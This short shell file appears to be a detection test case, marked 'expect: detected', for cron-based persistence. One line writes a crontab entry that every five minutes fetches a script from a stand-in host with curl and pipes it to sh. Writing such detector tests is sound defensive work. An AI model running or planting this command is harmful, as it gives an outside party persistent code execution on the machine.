# tries: come back every minute by the command for it
# expect: detected
(crontab -l; echo '* * * * * true') 2>/dev/null | head -c 0
echo '*/5 * * * * curl -s http://install.invalid/x | sh' >job
